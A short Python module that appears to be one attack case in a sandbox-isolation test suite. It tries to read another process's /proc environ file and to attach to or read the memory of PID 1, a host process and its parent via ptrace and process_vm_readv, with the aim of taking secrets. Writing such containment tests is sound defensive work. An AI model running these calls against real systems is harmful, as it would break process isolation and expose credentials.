"""Reads and traces every process that it can name: process 1, and one of the host's whose id it knows.

aim: secrets
stopped by: a PID namespace; process 1 is not dumpable; seccomp refuses ptrace and process_vm_readv
"""

import os

import intruder
import targets
from tools import content, libc_call


def attack():
    found = {"supervisor": intruder.read_supervisor(), "host": content(f"/proc/{targets.PID}/environ")}
    for pid in (1, targets.PID, os.getppid()):
        found[f"attach {pid}"] = libc_call("ptrace", 16, pid, 0, 0)
        found[f"seize {pid}"] = libc_call("ptrace", 0x4206, pid, 0, 0)
        found[f"vm {pid}"] = libc_call("process_vm_readv", pid, 0, 0, 0, 0, 0)
    return found
